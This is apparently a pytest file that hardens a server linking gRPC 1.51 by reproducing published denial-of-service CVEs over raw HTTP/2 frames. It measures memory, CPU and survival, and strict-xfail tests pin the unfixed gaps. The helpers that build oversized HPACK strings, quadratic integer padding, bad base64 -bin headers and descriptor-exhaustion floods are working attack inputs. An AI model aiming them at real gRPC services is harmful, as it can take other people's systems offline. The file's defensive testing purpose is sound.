"""The published denial-of-service CVEs of the gRPC we link (Debian 12's 1.51.1),
probed against a real `quiver serve` (issue 9, point 4).

One probe per CVE, each on raw HTTP/2 (h2probe.py) so it can send exactly the bytes
the advisory describes; rapid reset (CVE-2023-44487) is test_rapid_reset.py. Every
probe measures the server: RSS before / at the peak / after, CPU time it spent,
whether it dropped the probe's connection, and whether a normal pyarrow client is
served afterwards. The figures go to figures.record under the CVE's id; SECURITY.md
reports them with the commands that repeat them.

What is asserted is what must hold: the server process stays up and keeps serving
other clients. Where gRPC 1.51 fails that, or harms other calls, a strict-xfail
test pins the gap (it starts failing once a fixed gRPC is linked). No RSS or CPU
bound is asserted: 1.51 cannot meet one for these inputs, which is the finding.

QUIVER_HARDENING_SCALE (default 1) multiplies the probes' sizes, for longer runs
than CI's.
"""

import contextlib
import os
import resource
import socket

import pytest

import figures
import support
from h2probe import (CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PREFACE, SETTINGS, RawConnection,
                     RssSampler, cpu_seconds, frame, grpc_message, normal_client_works)

SCALE = float(os.environ.get("QUIVER_HARDENING_SCALE", "1"))
LIST_ACTIONS = support.SERVICE + "ListActions"
DO_PUT = support.SERVICE + "DoPut"
MIB = 1 << 20


def hpack_int(prefix_bits, high_bits, value):
    """An HPACK integer (RFC 7541 5.1) whose first byte keeps `high_bits`."""
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([high_bits | value])
    out = bytearray([high_bits | limit])
    value -= limit
    while value >= 128:
        out.append(value & 0x7F | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


class Measured:
    """RSS, CPU time, threads and descriptors of the server around a probe."""

    def __init__(self, server):
        self.server = server

    def __enter__(self):
        self.before = self.server.stats()
        self.cpu_before = cpu_seconds(self.server.pid)
        self.sampler = RssSampler(self.server.pid).__enter__()
        return self

    def __exit__(self, *exc):
        self.sampler.__exit__(*exc)
        if not self.server.alive():
            self.after = None
            return
        self.after = self.server.stats()
        self.cpu = cpu_seconds(self.server.pid) - self.cpu_before

    def values(self):
        if self.after is None:
            return {"server_died": True, "rss_before_mib": self.before["rss"] / MIB}
        return {
            "rss_before_mib": round(self.before["rss"] / MIB, 1),
            "rss_peak_mib": round(max(self.sampler.peak, self.after["rss"]) / MIB, 1),
            "rss_after_mib": round(self.after["rss"] / MIB, 1),
            "server_cpu_seconds": round(self.cpu, 2),
            "threads": [self.before["threads"], self.after["threads"]],
            "fds": [self.before["fds"], self.after["fds"]],
        }


def assert_still_serves(server):
    assert server.alive(), f"quiver serve died; log:\n{server.log()}"
    served, why = normal_client_works(server)
    assert served, f"a normal client is no longer served: {why}; log:\n{server.log()}"


def connect(server, ack_settings=True):
    """A raw connection; with `ack_settings` it first acknowledges the server's SETTINGS
    (a client that does not is held to gRPC's defaults instead of the server's limits)."""
    conn = RawConnection(server.host, server.port)
    if ack_settings:
        conn.pump(30, until=lambda: conn.acked_settings)
    return conn


# --- CVE-2023-33953: HPACK parser, unbounded buffering and quadratic parsing --------

def send_huge_header_string(conn, total, fragment=16_384):
    """A request whose header block ends in a literal field 'x-big' with a `total`-byte
    value, carried by CONTINUATION frames of `fragment` bytes: gRPC 1.51 buffers the
    whole string before it checks its size against the metadata limit."""
    stream = conn.new_stream()
    head = conn.request_block(LIST_ACTIONS) + b"\x00" + hpack_int(7, 0, 5) + b"x-big" + hpack_int(7, 0, total)
    conn.send(frame(HEADERS, 0, stream, head))
    sent = 0
    chunk = b"a" * fragment
    while sent < total and not conn.closed:
        n = min(fragment, total - sent)
        conn.send(frame(CONTINUATION, END_HEADERS if sent + n == total else 0, stream, chunk[:n]))
        sent += n
        if sent % MIB < fragment:
            conn.pump(0)
    conn.send(frame(DATA, END_STREAM, stream, grpc_message()))
    conn.pump(support.LIMIT, until=lambda: stream in conn.status)
    return stream, sent


def send_varint_padding(conn, total, fragment=16):
    """A request whose header block ends in an HPACK integer padded with `total`
    continuation bytes (0x80: 'seven more zero bits'), cut into CONTINUATION frames of
    `fragment` bytes: gRPC 1.51 reads every padding byte, and re-parses the incomplete
    field from its start at each new frame (quadratic in the field's length)."""
    stream = conn.new_stream()
    # 0x7f: a literal with incremental indexing whose name index does not fit the
    # 6-bit prefix, so an integer follows; the padding makes it longer, not larger.
    conn.send(frame(HEADERS, 0, stream, conn.request_block(LIST_ACTIONS) + b"\x7f"))
    sent = 0
    pad = b"\x80" * fragment
    while sent < total and not conn.closed:
        n = min(fragment, total - sent)
        conn.send(frame(CONTINUATION, 0, stream, pad[:n]))
        sent += n
        if sent % (64 << 10) < fragment:
            conn.pump(0)
    # The integer ends (name index 63: the first entry this connection added to the
    # dynamic table), then a one-byte value.
    conn.send(frame(CONTINUATION, END_HEADERS, stream, b"\x00\x01v"))
    conn.send(frame(DATA, END_STREAM, stream, grpc_message()))
    conn.pump(support.LIMIT, until=lambda: stream in conn.status)
    return stream, sent


@pytest.mark.parametrize("ack_settings", [False, True], ids=["settings-not-acked", "settings-acked"])
def test_cve_2023_33953_huge_header_string(make_server, ack_settings):
    server = make_server()
    total = int(4 * MIB * SCALE)
    conn = connect(server, ack_settings)
    with Measured(server) as measured:
        stream, sent = send_huge_header_string(conn, total)
    result = conn.status.get(stream)
    closed = conn.closed
    conn.close()
    figures.record("CVE-2023-33953", f"huge HPACK string, settings {'acked' if ack_settings else 'not acked'}",
                   header_bytes_sent=sent, call_status=result, connection_closed=closed, **measured.values())
    print(f"CVE-2023-33953, a {sent >> 20} MiB header value (settings acked: {ack_settings}): call status "
          f"{result}, connection closed: {closed}, {measured.values()}")
    assert_still_serves(server)


def test_cve_2023_33953_varint_padding_in_small_frames(make_server):
    server = make_server()
    total = int(128 * 1024 * SCALE)
    conn = connect(server)
    with Measured(server) as measured:
        stream, sent = send_varint_padding(conn, total)
    result = conn.status.get(stream)
    closed = conn.closed
    conn.close()
    figures.record("CVE-2023-33953", "HPACK integer padding in 16-byte CONTINUATION frames",
                   padding_bytes_sent=sent, call_status=result, connection_closed=closed, **measured.values())
    print(f"CVE-2023-33953, {sent >> 10} KiB of HPACK integer padding in 16-byte frames: call status {result}, "
          f"connection closed: {closed}, {measured.values()}")
    assert_still_serves(server)


# --- CVE-2023-32732: a -bin header that is not base64 ends the whole connection ---------

BAD_BIN = ("x-probe-bin", "$$$")


def victim_and_attacker(server, attacker_headers):
    """On one connection (a proxy's shared upstream connection, say): a DoPut in
    progress, then a call carrying `attacker_headers`, then a normal call. Returns
    (what the DoPut, the attacker's call and the later call got, connection closed)."""
    conn = connect(server)
    victim = conn.new_stream()
    conn.send_headers(victim, conn.request_block(DO_PUT))
    conn.pump(0.5)
    attacker = conn.unary(LIST_ACTIONS, attacker_headers)
    conn.pump(30, until=lambda: attacker in conn.status)
    later = conn.unary(LIST_ACTIONS)
    conn.pump(30, until=lambda: later in conn.status)
    outcome = (conn.status.get(victim), conn.status.get(attacker), conn.status.get(later), conn.closed)
    conn.close()
    return outcome


ATTACKS_ON_SHARED_CONNECTIONS = {
    "bad base64 in a -bin header": [BAD_BIN],
    "metadata over the 8 KiB limit": [("x-big", "b" * 10_000)],
}


@pytest.mark.parametrize("attack", sorted(ATTACKS_ON_SHARED_CONNECTIONS))
def test_cve_2023_32732_bad_call_on_a_shared_connection(make_server, attack):
    server = make_server()
    with Measured(server) as measured:
        victim, attacker, later, closed = victim_and_attacker(server, ATTACKS_ON_SHARED_CONNECTIONS[attack])
    figures.record("CVE-2023-32732", attack, attacker_call=attacker, other_call_in_progress=victim,
                   later_call=later, connection_closed=closed, **measured.values())
    print(f"CVE-2023-32732, {attack}: attacker's call {attacker}, the DoPut in progress on the same connection "
          f"{victim}, a later call {later}, connection closed: {closed}")
    # The attacker's own call fails ...
    assert attacker not in (None, 0) or closed
    # ... and the server stays up for everyone else.
    assert_still_serves(server)


@pytest.mark.xfail(strict=True, reason="gRPC 1.51 ends the whole HTTP/2 connection on a -bin header that is not "
                   "base64 (CVE-2023-32732, fixed in 1.53): other calls on that connection fail with it")
def test_cve_2023_32732_other_calls_on_the_connection_survive(make_server):
    server = make_server()
    victim, attacker, later, closed = victim_and_attacker(server, [BAD_BIN])
    assert not closed and later == 0 and victim is None, (victim, attacker, later, closed)


# --- CVE-2023-1428: abort() on te / :scheme / grpclb_client_stats past 8 KB of headers --

TRIGGERS = {"te": ("te", "x"), "scheme": (":scheme", "x"), "grpclb_client_stats": ("grpclb_client_stats", "x")}
FILLERS = [(14, 700), (40, 700), (3, 9_000), (1, 20_000)]


@pytest.mark.parametrize("trigger", sorted(TRIGGERS))
def test_cve_2023_1428_headers_do_not_abort(make_server, trigger):
    server = make_server()
    name, value = TRIGGERS[trigger]
    outcomes = []
    with Measured(server) as measured:
        for ack_settings in (False, True):
            for count, size in FILLERS:
                conn = connect(server, ack_settings)
                headers = [(":method", "POST"), (":scheme", "http"), (":path", LIST_ACTIONS),
                           (":authority", conn.authority), ("content-type", "application/grpc"), ("te", "trailers")]
                headers = [h for h in headers if h[0] != name] + [(name, value)]
                headers += [(f"x-fill-{i}", "f" * size) for i in range(count)]
                stream = conn.new_stream()
                conn.send_headers(stream, conn.encode(headers))
                conn.send(frame(DATA, END_STREAM, stream, grpc_message()))
                conn.pump(30, until=lambda: stream in conn.status)
                outcomes.append({"acked": ack_settings, "filler": f"{count}x{size}",
                                 "status": conn.status.get(stream), "closed": conn.closed})
                conn.close()
                assert server.alive(), f"{trigger} then {count}x{size} bytes of headers aborted quiver serve:\n" \
                                       f"{server.log()}"
    figures.record("CVE-2023-1428", f"{name}: {value} then more than 8 KB of headers", server_aborted=False,
                   outcomes=outcomes, **measured.values())
    print(f"CVE-2023-1428, {name}: {value}: {outcomes}")
    assert_still_serves(server)


# --- CVE-2024-7246: HPACK table poisoning across the calls of a shared connection ------

MISENCODED = {
    "te other than trailers": ("te", "x"),
    "control byte in a value": ("x-ctl", "a\x01b"),
    "upper-case header name": ("X-Upper", "v"),
    "bad base64 in a -bin header": BAD_BIN,
}


@pytest.mark.parametrize("hpack_table", ["default", "decoder-table-0"])
@pytest.mark.parametrize("misencoded", sorted(MISENCODED))
def test_cve_2024_7246_misencoded_header_does_not_poison_later_calls(make_server, misencoded, hpack_table):
    """Like a proxy that multiplexes clients over one upstream connection: call A has a
    misencoded header followed by headers the encoder adds to the HPACK dynamic table;
    call B (another client's) reuses those table entries. Poisoning would fail B while
    the connection stays open. `decoder-table-0` runs the server with a dynamic table
    of size 0 (`--grpc-arg grpc.http2.hpack_table_size.decoder=0`), which an honest
    proxy's encoder honours: then no entry is shared between calls at all."""
    extra = ["--grpc-arg", "grpc.http2.hpack_table_size.decoder=0"] if hpack_table != "default" else []
    server = make_server(*extra)
    conn = connect(server)
    shared = [("x-tenant", "alice"), ("x-api-key", "secret")]
    a = conn.unary(LIST_ACTIONS, [MISENCODED[misencoded]] + shared)
    conn.pump(30, until=lambda: a in conn.status)
    b = conn.unary(LIST_ACTIONS, shared)
    conn.pump(30, until=lambda: b in conn.status)
    table_size = conn.encoder.header_table_size
    outcome = {"call_a": conn.status.get(a), "call_b": conn.status.get(b), "connection_closed": conn.closed,
               "encoder_table_bytes": table_size}
    conn.close()
    figures.record("CVE-2024-7246", f"{misencoded}, HPACK table {hpack_table}", **outcome)
    print(f"CVE-2024-7246, {misencoded} (table {hpack_table}): {outcome}")
    if hpack_table != "default":
        assert table_size == 0
    # No poisoning: while the connection is open, B succeeds.
    assert conn.closed or outcome["call_b"] == 0, outcome
    assert_still_serves(server)


# --- CVE-2023-4785: accept() failing for lack of descriptors stops the listener -------

def exhaust_descriptors(server, limit, before):
    """Lowers the server's descriptor limit to `limit`, opens connections (each sends
    the HTTP/2 preface, as a client would) until past it, then closes them all.
    Returns (connections opened, server stats when full, stats after closing)."""
    resource.prlimit(server.pid, resource.RLIMIT_NOFILE, (limit, limit))
    sockets = []
    try:
        for _ in range(limit + 40):
            sock = socket.create_connection((server.host, server.port), timeout=10)
            sock.sendall(PREFACE + frame(SETTINGS, 0, 0))
            sockets.append(sock)
        support.wait_for(lambda: server.stats()["fds"] >= limit, "the server to run out of descriptors", limit=30)
        full = server.stats()
    finally:
        for sock in sockets:
            sock.close()
    after = support.settle(server, before, 1 << 40, 1 << 20, 8, limit=30)
    return len(sockets), full, after


DESCRIPTOR_LIMIT = 64


def test_cve_2023_4785_descriptor_exhaustion_leaves_the_server_up(make_server):
    server = make_server()
    before = server.stats()
    opened, full, after = exhaust_descriptors(server, DESCRIPTOR_LIMIT, before)
    assert server.alive(), server.log()
    # The connections gRPC did accept are released once their clients are gone.
    assert after["fds"] <= before["fds"] + 8, (before, after)
    served, why = normal_client_works(server, timeout=10)
    figures.record("CVE-2023-4785", f"descriptor limit {DESCRIPTOR_LIMIT}, {opened} connections",
                   fds_before=before["fds"], fds_full=full["fds"], fds_after=after["fds"],
                   serves_a_new_client_after=served, error_after=why,
                   rss_before_mib=round(before["rss"] / MIB, 1), rss_after_mib=round(after["rss"] / MIB, 1))
    print(f"CVE-2023-4785: {opened} connections against a limit of {DESCRIPTOR_LIMIT} descriptors: fds "
          f"{before['fds']} -> {full['fds']} -> {after['fds']}; a new client served afterwards: {served} {why}")


@pytest.mark.xfail(strict=True, reason="gRPC 1.51 stops accepting for good once accept() fails with EMFILE "
                   "(CVE-2023-4785, fixed by grpc/grpc#33656 in 1.57 and the 1.53-1.56 patch releases)")
def test_cve_2023_4785_accepts_again_after_descriptor_exhaustion(make_server):
    server = make_server()
    exhaust_descriptors(server, DESCRIPTOR_LIMIT, server.stats())
    served, why = normal_client_works(server, timeout=10)
    assert served, why


@contextlib.contextmanager
def soft_descriptor_limit(soft):
    """Lowers this process's soft RLIMIT_NOFILE (children inherit it) for the block."""
    old = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(soft, old[1]), old[1]))
    try:
        yield old[1]
    finally:
        resource.setrlimit(resource.RLIMIT_NOFILE, old)


def test_quiver_serve_raises_its_descriptor_limit_to_the_hard_limit(make_server):
    """The mitigation quiver serve applies for CVE-2023-4785: it starts with a soft
    descriptor limit equal to the hard one, so exhausting it takes as many
    connections as the system lets the process have."""
    with soft_descriptor_limit(256) as hard:
        server = make_server()
    soft_now, hard_now = resource.prlimit(server.pid, resource.RLIMIT_NOFILE)
    assert hard_now == hard
    assert soft_now == hard, (soft_now, hard)
    assert_still_serves(server)
